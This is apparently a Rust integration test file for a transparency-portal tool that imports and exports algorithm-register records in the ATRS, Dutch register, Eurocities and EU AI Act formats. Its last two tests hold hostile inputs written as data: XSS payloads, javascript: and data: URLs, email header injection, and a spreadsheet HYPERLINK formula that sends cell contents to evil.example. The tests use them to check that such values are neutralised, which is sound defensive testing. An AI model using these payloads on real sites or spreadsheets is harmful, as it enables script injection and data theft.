//! Export to ATRS, the Dutch register, Eurocities and the EU AI Act
//! database; import of ATRS and Dutch register records.

use std::collections::BTreeMap;
use std::fs;
use std::path::Path;
use std::process::Command;

use glassbox::model::Portal;
use glassbox::render::exports::{self as export, Standard};

use crate::support::*;

fn glassbox(args: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_glassbox"))
        .args(args)
        .output()
        .unwrap()
}

fn model(dir: &Path) -> Portal {
    let sources = glassbox::load::load_portal(dir).unwrap();
    let (portal, d) = glassbox::model::build_portal(&sources, test_today());
    portal.unwrap_or_else(|| panic!("portal has errors:\n{}", render_all(&d)))
}

/// A portal with the example's portal.yaml and challenge routes, and no systems.
fn empty_portal() -> TestPortal {
    let p = TestPortal::minimal();
    for f in fs::read_dir(p.path().join("content/systems")).unwrap() {
        fs::remove_file(f.unwrap().path()).unwrap();
    }
    for f in fs::read_dir(p.path().join("content/errors")).unwrap() {
        fs::remove_file(f.unwrap().path()).unwrap();
    }
    p.write(
        "content/portal.yaml",
        fs::read(Path::new(env!("CARGO_MANIFEST_DIR")).join("content/portal.yaml")).unwrap(),
    );
    p
}

fn import(format: &str, file: &Path, into: &TestPortal) -> String {
    let out = glassbox(&[
        "import",
        format,
        file.to_str().unwrap(),
        "--into",
        into.path().to_str().unwrap(),
        "--today",
        "2026-11-26",
    ]);
    let stderr = String::from_utf8_lossy(&out.stderr).to_string();
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    stderr
}

fn fixture_lines(name: &str) -> Vec<(String, String)> {
    fs::read_to_string(fixture("standards").join(name))
        .unwrap()
        .lines()
        .filter(|l| !l.starts_with('#') && !l.trim().is_empty())
        .map(|l| {
            let (a, b) = l.split_once(',').unwrap_or((l, ""));
            (a.to_string(), b.to_string())
        })
        .collect()
}

fn columns(format: Standard) -> Vec<String> {
    format
        .mapping()
        .columns
        .iter()
        .map(|c| c.column.clone())
        .collect()
}

fn required(format: Standard) -> Vec<String> {
    format
        .mapping()
        .columns
        .iter()
        .filter(|c| c.required)
        .map(|c| c.column.clone())
        .collect()
}

#[test]
fn atrs_columns_follow_the_v2_1_attribute_table() {
    let attrs = fixture_lines("atrs_v2.1_attributes.txt");
    let mut want: Vec<String> = [
        "id",
        "standard_version",
        "date_completion",
        "date_update",
        "date_archive",
    ]
    .map(String::from)
    .to_vec();
    want.extend(attrs.iter().map(|(a, _)| a.clone()));
    assert_eq!(columns(Standard::Atrs), want);
    // Every attribute the table marks TRUE is required in the mapping.
    let req = required(Standard::Atrs);
    for (a, flag) in &attrs {
        assert_eq!(req.contains(a), flag == "TRUE", "{a}: {flag}");
    }
}

#[test]
fn nl_columns_follow_the_official_csv_download() {
    let header = fs::read_to_string(fixture("standards/nl_export_header.csv")).unwrap();
    let header: Vec<String> = header
        .trim_start_matches('\u{feff}')
        .trim()
        .split(',')
        .map(String::from)
        .collect();
    assert_eq!(header.len(), 29);
    assert_eq!(columns(Standard::Nl), header);
    let want: Vec<String> = fixture_lines("nl_v1.0_required.txt")
        .into_iter()
        .map(|(a, _)| a)
        .collect();
    let mut got = required(Standard::Nl);
    got.sort();
    let mut want_sorted = want.clone();
    want_sorted.sort();
    assert_eq!(got, want_sorted);
}

#[test]
fn eurocities_columns_follow_the_v0_3_1_schema() {
    let attrs = fixture_lines("eurocities_v0.3.1_attributes.txt");
    assert_eq!(attrs.len(), 49);
    assert_eq!(
        columns(Standard::Eurocities),
        attrs.iter().map(|(a, _)| a.clone()).collect::<Vec<_>>()
    );
    let req = required(Standard::Eurocities);
    for (a, flag) in &attrs {
        assert_eq!(req.contains(a), flag == "TRUE", "{a}");
    }
}

#[test]
fn mappings_only_name_fields_glassbox_has() {
    for format in [
        Standard::Atrs,
        Standard::Nl,
        Standard::Eurocities,
        Standard::AiAct,
    ] {
        let path = format!("mappings/{}.yaml", format.name());
        let mapping = export::Mapping::parse(format.mapping_source(), &path)
            .unwrap_or_else(|d| panic!("{path}: {}", d[0].render()));
        for c in mapping.columns {
            if let Some(f) = c.field {
                assert!(f.is_mapped(), "{path}: {} maps to {f}", c.column);
            }
        }
    }
    // A name the field table does not have is refused where it is written.
    let source = Standard::Atrs
        .mapping_source()
        .replace("field: owner.team}", "field: owner.teams}");
    let line = source
        .lines()
        .position(|l| l.contains("owner.teams"))
        .unwrap()
        + 1;
    let errors = export::Mapping::parse(&source, "mappings/atrs.yaml").unwrap_err();
    let shown = errors[0].render();
    assert!(
        shown.contains("`owner.teams` is not a glassbox field"),
        "{shown}"
    );
    assert!(shown.contains("did you mean `owner.team`"), "{shown}");
    assert_eq!(errors[0].position.map(|p| p.line), Some(line), "{shown}");
    // So is a group that no single column can hold.
    let source = Standard::Atrs
        .mapping_source()
        .replace("field: owner.team}", "field: human_oversight}");
    let errors = export::Mapping::parse(&source, "mappings/atrs.yaml").unwrap_err();
    assert!(
        errors[0]
            .render()
            .contains("`human_oversight` is not a glassbox field")
    );
}

#[test]
fn exports_write_the_columns_in_order_and_list_what_is_missing() {
    let portal = model(Path::new(env!("CARGO_MANIFEST_DIR")));
    for format in [Standard::Atrs, Standard::Nl, Standard::Eurocities] {
        let (files, records) = export::export(&portal, format);
        assert_eq!(records.len(), portal.systems.len());
        let csv = String::from_utf8(files[&format!("{}.csv", format.name())].clone()).unwrap();
        let first = csv.lines().next().unwrap();
        let header: Vec<String> = first
            .split(',')
            .map(|c| c.trim_matches('"').to_string())
            .collect();
        assert_eq!(header, columns(format));
        let json: serde_json::Value =
            serde_json::from_slice(&files[&format!("{}.json", format.name())]).unwrap();
        assert_eq!(json["records"].as_array().unwrap().len(), records.len());
    }
    // The example keeps no data-sharing information, which ATRS requires:
    // it is reported per system, not made up.
    let (files, records) = export::export(&portal, Standard::Atrs);
    let r = records
        .iter()
        .find(|r| r.id == "letter-translation")
        .unwrap();
    assert!(
        r.missing_required
            .contains(&"data_sharing_agreements".to_string())
    );
    let json: serde_json::Value = serde_json::from_slice(&files["atrs.json"]).unwrap();
    let rec = json["records"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["Metadata"]["id"] == "letter-translation")
        .unwrap();
    assert!(rec["Tier 2: 4 Information on data"]["data_sharing_agreements"].is_null());
    assert!(
        rec["missing_required"]
            .as_array()
            .unwrap()
            .contains(&"data_sharing_agreements".into())
    );
    assert_eq!(rec["Tier 2: 2 Description"]["phase"], "production");
}

#[test]
fn check_lists_missing_required_fields_per_system_and_exits_1() {
    let root = env!("CARGO_MANIFEST_DIR");
    let out = glassbox(&["export", "atrs", root, "--check"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.contains("bin-collection-route-planning (Bin lorry route planning): 6 required"),
        "{stderr}"
    );
    assert!(stderr.contains("external_supplier, external_supplier_role, appeals_and_review"));
    // The one high-risk example system gives everything Annex VIII Section C asks.
    let out = glassbox(&["export", "ai-act", root, "--check"]);
    assert_eq!(out.status.code(), Some(0));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("All 1 system(s) give every required field")
    );
}

#[test]
fn ai_act_exports_only_high_risk_systems_with_a_readable_page() {
    let p = TestPortal::example();
    p.edit(
        "content/systems/benefit-claim-risk-scoring.md",
        "  provider_database_url: https://eu-ai-database.example/systems/ledgerline-claim-scoring\n",
        "",
    );
    let portal = model(p.path());
    let (files, records) = export::export(&portal, Standard::AiAct);
    assert_eq!(records.len(), 1);
    assert_eq!(records[0].missing_required, vec!["provider_database_url"]);
    let json: serde_json::Value = serde_json::from_slice(&files["ai-act.json"]).unwrap();
    let r = &json["records"][0];
    assert_eq!(
        r["1. The deployer"]["deployer_name"],
        "Eastmere Borough Council"
    );
    // The DPIA summary falls back on the impact assessment of kind dpia.
    assert!(
        r["5. Data protection impact assessment"]["dpia_summary"]
            .as_str()
            .unwrap()
            .starts_with("High risk because it uses disability information.")
    );
    let html = String::from_utf8(files["ai-act.html"].clone()).unwrap();
    assert!(html.starts_with("<!DOCTYPE html>\n<html lang=\"en\">"));
    assert!(html.contains("<h2>Benefit claim risk scoring</h2>"));
    assert!(html.contains("Not ready to submit.</strong> Missing: provider_database_url."));
}

#[test]
fn ai_act_fields_are_validated() {
    let p = TestPortal::example();
    p.edit(
        "content/systems/benefit-claim-risk-scoring.md",
        "https://eu-ai-database.example/systems/ledgerline-claim-scoring",
        "eu-ai-database.example/x",
    );
    let d = p.build_fails();
    assert!(
        location(only(&d, "invalid-url"))
            .starts_with("content/systems/benefit-claim-risk-scoring.md:")
    );
    let p = TestPortal::example();
    p.edit(
        "content/systems/benefit-claim-risk-scoring.md",
        "risk_class: high-risk",
        "risk_class: high",
    );
    let d = p.build_fails();
    assert!(render_all(&d).contains("high-risk"), "{}", render_all(&d));
}

/// export -> import -> export gives the same file: every field the standard
/// carries survives the trip.
fn round_trip(format: &str, ext: &str) {
    let example = TestPortal::example();
    let out = tempfile::tempdir().unwrap();
    let e1 = out.path().join("one");
    let e2 = out.path().join("two");
    let run = |portal: &Path, dir: &Path| {
        let o = glassbox(&[
            "export",
            format,
            portal.to_str().unwrap(),
            "-o",
            dir.to_str().unwrap(),
        ]);
        assert_eq!(
            o.status.code(),
            Some(0),
            "{}",
            String::from_utf8_lossy(&o.stderr)
        );
    };
    run(example.path(), &e1);
    let fresh = empty_portal();
    let report = import(format, &e1.join(format!("{format}.{ext}")), &fresh);
    assert!(report.contains("Imported 12 record(s): 12 new"), "{report}");
    fresh.build_ok();
    run(fresh.path(), &e2);
    for file in [format!("{format}.csv"), format!("{format}.json")] {
        let one = fs::read_to_string(e1.join(&file)).unwrap();
        let two = fs::read_to_string(e2.join(&file)).unwrap();
        assert!(
            one == two,
            "{file} changed on the round trip:\n{}",
            first_difference(&one, &two)
        );
    }
    // Importing the same file again updates the entries instead of adding more.
    let again = import(format, &e1.join(format!("{format}.{ext}")), &fresh);
    assert!(again.contains("0 new, 12 updated"), "{again}");
    assert_eq!(
        fs::read_dir(fresh.path().join("content/systems"))
            .unwrap()
            .count(),
        12
    );
}

fn first_difference(a: &str, b: &str) -> String {
    for (x, y) in a.lines().zip(b.lines()) {
        if x != y {
            return format!("- {x}\n+ {y}");
        }
    }
    "(one is a prefix of the other)".into()
}

#[test]
fn atrs_round_trip_keeps_every_field_csv() {
    round_trip("atrs", "csv");
}

#[test]
fn atrs_round_trip_keeps_every_field_json() {
    round_trip("atrs", "json");
}

#[test]
fn nl_round_trip_keeps_every_field_csv() {
    round_trip("nl", "csv");
}

#[test]
fn nl_round_trip_keeps_every_field_json() {
    round_trip("nl", "json");
}

fn entries(p: &TestPortal) -> BTreeMap<String, String> {
    fs::read_dir(p.path().join("content/systems"))
        .unwrap()
        .map(|e| {
            let e = e.unwrap();
            (
                e.file_name()
                    .to_string_lossy()
                    .trim_end_matches(".md")
                    .to_string(),
                fs::read_to_string(e.path()).unwrap(),
            )
        })
        .collect()
}

#[test]
fn govuk_atrs_records_import_with_gaps_marked_not_invented() {
    let p = empty_portal();
    let report = import("atrs", &fixture("import/govuk_atrs_search_sample.json"), &p);
    assert!(report.contains("Imported 7 record(s): 7 new"), "{report}");
    let e = entries(&p);
    assert_eq!(e.len(), 7);
    // The council's record filed under a department's slug: the title's
    // prefix names the organisation; the id is the GOV.UK slug.
    let newcastle =
        &e["newcastle-city-council-aws-contact-centre-services-amazon-q-and-contact-lens"];
    assert!(
        newcastle.contains("name: \"AWS Contact Centre Services (Amazon Q and Contact Lens)\"")
    );
    assert!(newcastle.contains("organisation: \"Newcastle City Council\""));
    assert!(newcastle.contains("source_url: \"https://www.gov.uk/algorithmic-transparency-records/newcastle-city-council-aws-contact-centre-services-amazon-q-and-contact-lens\""));
    assert!(newcastle.contains("standard_version: \"4.0\""));
    assert!(newcastle.contains("imported_on: 2026-11-26"));
    assert!(newcastle.contains("last_reviewed: 2026-08-13"));
    assert!(newcastle.contains("decision: \"Not given in the source record.\""));
    assert!(newcastle.contains("    - \"decision\"\n"));
    // Messy version labels all come out as major.minor.
    let versions: Vec<&str> = e
        .values()
        .filter_map(|t| t.lines().find(|l| l.contains("standard_version:")))
        .collect();
    assert_eq!(versions.len(), 7);
    assert!(
        versions.iter().all(|v| {
            let v = v
                .trim()
                .trim_start_matches("standard_version: ")
                .trim_matches('"');
            v.len() == 3 && v.as_bytes()[1] == b'.'
        }),
        "{versions:?}"
    );
    // It builds; the gaps are warnings, one per record, and the page says
    // what the source did not give.
    let report = p.build_ok();
    let gaps: Vec<_> = report
        .diagnostics
        .iter()
        .filter(|d| d.code == "import-gap")
        .collect();
    assert_eq!(gaps.len(), 7, "{}", render_all(&report.diagnostics));
    assert!(gaps[0].message.contains("`decision`"));
    let main = p.main_of(
        "systems/newcastle-city-council-aws-contact-centre-services-amazon-q-and-contact-lens/",
    );
    assert!(main.contains("Read the original record"));
    assert!(main.contains("where Newcastle City Council published it"));
    assert!(
        !main.contains("Overdue"),
        "a review date the source did not give is never overdue"
    );
    let text = scraper::Html::parse_fragment(&main)
        .root_element()
        .text()
        .collect::<String>();
    assert!(
        text.contains("This record does not say")
            && text.contains("whether it only informs staff, suggests or decides"),
        "automation is a gap, said once near the top"
    );
    assert!(!text.contains("What it does"), "no row for a gap");
    assert!(
        !text.contains("Gives staff information"),
        "no placeholder value is shown"
    );
}

#[test]
fn nl_listing_imports_in_dutch_with_unique_ids() {
    let p = empty_portal();
    let report = import("nl", &fixture("import/nl_listing_sample.json"), &p);
    assert!(report.contains("Imported 9 record(s): 9 new"), "{report}");
    let e = entries(&p);
    assert_eq!(e.len(), 9);
    // Three records share a title: three ids, each URL-safe.
    let same: Vec<&String> = e
        .keys()
        .filter(|k| k.starts_with("inzet-geautomatiseerde-gezichtsvergelijking"))
        .collect();
    assert_eq!(same.len(), 3, "{:?}", e.keys().collect::<Vec<_>>());
    assert!(e.keys().all(|k| glassbox::model::is_safe_id(k)));
    assert!(e.values().all(|t| t.contains("lang: \"nl\"")));
    // Statuses map to glassbox's.
    assert!(e.values().any(|t| t.contains("status: retired")));
    assert!(e.values().any(|t| t.contains("status: pilot")));
    // A purpose longer than a summary is cut at a sentence; the whole text is kept.
    assert!(e.values().all(|t| {
        let s = t.lines().find(|l| l.starts_with("summary: ")).unwrap();
        s.chars().count() <= 350 + 12
    }));
    p.build_ok();
    let id = e
        .keys()
        .find(|k| k.starts_with("inzet-geautomatiseerde"))
        .unwrap();
    let page = p.page(&format!("systems/{id}/"));
    assert!(
        page.contains(" lang=\"nl\""),
        "the page marks the record's language"
    );
}

#[test]
fn nl_full_csv_export_imports() {
    let p = empty_portal();
    let report = import("nl", &fixture("import/nl_full_export_sample.csv"), &p);
    assert!(report.contains("Imported 1 record(s): 1 new"), "{report}");
    let e = entries(&p);
    let (id, text) = e.iter().next().unwrap();
    assert_eq!(id, "waarderen-woz-objecten-amsterdam");
    assert!(text.contains("organisation: \"Gemeente Amsterdam\""));
    assert!(text.contains("source_url: \"https://algoritmeregister.amsterdam.nl/ai-system/waarderen-woz-objecten-amsterdam/1094/\""));
    assert!(
        text.contains("tags: \"WOZ, Onroerende Zaken, taxatie, WOZ Waarde\""),
        "{text}"
    );
    // The first category becomes the service area.
    assert!(p.read("content/portal.yaml").contains("name: \"Economie\""));
    p.build_ok();
}

#[test]
fn reimport_updates_but_never_overwrites_filled_in_gaps() {
    let p = empty_portal();
    let file = fixture("import/nl_listing_sample.json");
    import("nl", &file, &p);
    let before = entries(&p);
    let again = import("nl", &file, &p);
    assert!(again.contains("0 new, 9 updated"), "{again}");
    assert_eq!(entries(&p), before, "same source, same files");
    // Someone fills in a gap: the next import leaves that entry alone.
    let (id, text) = before.iter().next().unwrap();
    let edited = text
        .replacen(
            "decision: \"Not given in the source record.\"",
            "decision: \"Who gets a visit.\"",
            1,
        )
        .replacen("    - \"decision\"\n", "", 1);
    assert_ne!(&edited, text);
    p.write(&format!("content/systems/{id}.md"), &edited);
    let third = import("nl", &file, &p);
    assert!(third.contains("8 updated, 1 not updated"), "{third}");
    assert!(
        third.contains(&format!("note: {id}: someone filled in decision")),
        "{third}"
    );
    assert_eq!(p.read(&format!("content/systems/{id}.md")), edited);
}

#[test]
fn hostile_and_odd_text_round_trips_and_cannot_inject_html() {
    let p = empty_portal();
    let tricky = [
        "no",
        "1.10",
        "- leading dash",
        "key: value with \"quotes\" and 'single'",
        "{{ site.title }} {% raw %}",
        "line one\nline two",
        "<script>alert(1)</script>",
        "# hash",
    ];
    let mut csv = String::from(
        "name,organization,description_short,status,url,lang,goal,methods_and_models\n",
    );
    for (i, t) in tricky.iter().enumerate() {
        let q = |s: &str| format!("\"{}\"", s.replace('"', "\"\""));
        csv.push_str(&format!(
            "{},{},{},{},{},{},{},{}\n",
            q(&format!("{t} {i}")),
            q(t),
            q(t),
            q("  IN GEBRUIK "),
            q(&format!("https://register.example/{i}")),
            q("nld"),
            q(t),
            q(&format!(
                "{t}\n\n<img src=x onerror=alert(1)> [x](javascript:alert(1))"
            )),
        ));
    }
    let file = p.path().join("tricky.csv");
    fs::write(&file, csv).unwrap();
    import("nl", &file, &p);
    let portal = model(p.path());
    assert_eq!(portal.systems.len(), tricky.len());
    for (i, t) in tricky.iter().enumerate() {
        let s = portal
            .systems
            .iter()
            .find(|s| {
                s.imported.as_ref().unwrap().source_url == format!("https://register.example/{i}")
            })
            .unwrap();
        assert_eq!(s.name, format!("{t} {i}").trim());
        assert_eq!(s.benefits, *t);
        assert_eq!(
            s.imported.as_ref().unwrap().organisation.as_deref(),
            Some(*t)
        );
        assert_eq!(
            s.status,
            glassbox::model::SystemStatus::InUse,
            "stray spaces and capitals"
        );
    }
    p.build_ok();
    for (path, bytes) in tree(&p.site()) {
        if path.ends_with(".html") {
            let html = String::from_utf8(bytes).unwrap();
            // Only the theme's own script file may appear.
            assert_eq!(
                html.matches("<script").count(),
                html.matches("<script src=\"/assets/").count(),
                "{path}"
            );
            assert!(!html.contains("<img src=x"), "{path}");
            assert!(!html.contains("javascript:"), "{path}");
        }
    }
}

#[test]
fn import_refuses_what_it_cannot_read() {
    let p = empty_portal();
    let file = p.path().join("x.json");
    fs::write(&file, "{\"unexpected\": []}").unwrap();
    let out = glassbox(&[
        "import",
        "nl",
        file.to_str().unwrap(),
        "--into",
        p.path().to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("expected the register's listing"));
    let out = glassbox(&[
        "import",
        "eurocities",
        file.to_str().unwrap(),
        "--into",
        p.path().to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(2));
    let out = glassbox(&[
        "import",
        "nl",
        file.to_str().unwrap(),
        "--into",
        "/nonexistent-portal",
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("not a portal folder"));
}

#[test]
fn atrs_csv_rows_and_search_json_meet_in_one_entry_each() {
    let p = empty_portal();
    let first = import("atrs", &fixture("import/atrs_audit_sample.csv"), &p);
    assert!(first.contains("Imported 3 record(s): 3 new"), "{first}");
    let then = import("atrs", &fixture("import/govuk_atrs_search_sample.json"), &p);
    assert!(
        then.contains("Imported 7 record(s): 4 new, 3 updated"),
        "{then}"
    );
    assert_eq!(entries(&p).len(), 7);
    p.build_ok();
}

#[test]
fn portal_yaml_can_publish_exports_in_the_site() {
    let p = TestPortal::example();
    p.build_ok();
    let files = tree(&p.site());
    for f in [
        "atrs.csv",
        "atrs.json",
        "nl.csv",
        "nl.json",
        "eurocities.csv",
        "eurocities.json",
        "ai-act.csv",
        "ai-act.json",
    ] {
        assert!(files.contains_key(&format!("exports/{f}")), "{f}");
    }
    assert!(
        !files.contains_key("exports/ai-act.html"),
        "only themed pages go in the site"
    );
    // The published file is the one `glassbox export` writes.
    let (exported, _) = export::export(&model(p.path()), Standard::Nl);
    assert_eq!(files["exports/nl.csv"], exported["nl.csv"]);
    p.edit(
        "content/portal.yaml",
        "publish_exports: [atrs, nl, eurocities, ai-act]",
        "publish_exports: [nl]",
    );
    p.build_ok();
    let files = tree(&p.site());
    let exports: Vec<&String> = files.keys().filter(|k| k.starts_with("exports/")).collect();
    assert_eq!(exports, ["exports/nl.csv", "exports/nl.json"]);
    p.edit(
        "content/portal.yaml",
        "publish_exports: [nl]",
        "publish_exports: [atrs, nlx]",
    );
    let d = p.build_fails();
    assert!(location(only(&d, "invalid-value")).starts_with("content/portal.yaml:"));
}

/// Values no build would take, in every source format: after the import the
/// portal still builds, each bad value is a gap with a note, and no link is
/// glued to a host or leads anywhere unsafe.
#[test]
fn a_hostile_import_always_builds() {
    let nasty_urls = [
        "javascript:alert(1)",
        "//evil.example/x",
        "data:text/html,<script>alert(1)</script>",
        "https://user:pass@evil.example/",
    ];
    let nasty_email = "a@b.example?bcc=c@d.example";
    let nasty_lang = "not a language";
    let control = "Name with \u{1b}[31m escape \u{7} bell \u{0} nul \u{b} tab";

    // NL listing CSV: every column with something the build refuses.
    let p = empty_portal();
    let q = |s: &str| format!("\"{}\"", s.replace('"', "\"\""));
    let mut csv =
        String::from("name,organization,description_short,status,url,lang,contact_email\n");
    for (i, url) in nasty_urls.iter().enumerate() {
        csv.push_str(&format!(
            "{},{},{},{},{},{},{}\n",
            q(&format!("{control} {i}")),
            q("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"),
            q(control),
            q("in gebruik"),
            q(url),
            q(nasty_lang),
            q(&format!("{nasty_email}\nBcc: x@y.example")),
        ));
    }
    // One record with a good address, so there is something to build.
    csv.push_str(&format!(
        "{},{},{},{},{},{},{}\n",
        q(control),
        q("Gemeente"),
        q(control),
        q("in gebruik"),
        q("https://register.example/ok"),
        q(nasty_lang),
        q(nasty_email)
    ));
    let file = p.path().join("hostile.csv");
    fs::write(&file, &csv).unwrap();
    let said = import("nl", &file, &p);
    assert!(
        said.contains("not imported") || said.contains("gap"),
        "{said}"
    );
    p.build_ok();
    let portal = model(p.path());
    assert_eq!(
        portal.systems.len(),
        1,
        "only the record with a real address"
    );
    let s = &portal.systems[0];
    assert!(
        !s.name.chars().any(|c| c.is_control() && c != '\n'),
        "{:?}",
        s.name
    );
    assert_eq!(s.lang, None);

    // NL listing JSON and ATRS search JSON with the same values.
    let p = empty_portal();
    let nl_json = serde_json::json!({"algoritmes": [
        {"title": control, "organisatie": "Gemeente", "doel": control,
         "status": "in_gebruik", "url": "https://register.example/a", "juridische_basis": control},
        {"title": "Two", "organisatie": "Gemeente", "doel": "x",
         "status": "in_gebruik", "url": "javascript:alert(1)"}
    ]});
    let file = p.path().join("hostile.json");
    fs::write(&file, nl_json.to_string()).unwrap();
    import("nl", &file, &p);
    p.build_ok();
    assert_eq!(model(p.path()).systems.len(), 1);

    let p = empty_portal();
    let atrs_json = serde_json::json!({"results": [
        {"title": format!("Council: {control}"), "description": control,
         "link": "javascript:alert(1)"},
        {"title": "Council: Glued", "description": "x", "link": "https.evil.example"},
        {"title": "Council: Fine", "description": "A tool.", "link": "/algorithmic-transparency-records/fine"}
    ]});
    let file = p.path().join("hostile-atrs.json");
    fs::write(&file, atrs_json.to_string()).unwrap();
    import("atrs", &file, &p);
    p.build_ok();
    let portal = model(p.path());
    let sources: Vec<String> = portal
        .systems
        .iter()
        .map(|s| s.imported.as_ref().unwrap().source_url.clone())
        .collect();
    assert_eq!(
        sources,
        vec!["https://www.gov.uk/algorithmic-transparency-records/fine".to_string()],
        "only a path is joined to GOV.UK"
    );
    // The export of what was imported opens safely in a spreadsheet.
    let out = p.path().join("out");
    let status = glassbox(&[
        "export",
        "atrs",
        p.path().to_str().unwrap(),
        "-o",
        out.to_str().unwrap(),
    ]);
    assert!(
        status.status.success(),
        "{}",
        String::from_utf8_lossy(&status.stderr)
    );
    let exported = fs::read_to_string(out.join("atrs.csv")).unwrap();
    let mut reader = csv::Reader::from_reader(exported.as_bytes());
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} would run as a formula"
            );
        }
    }
}
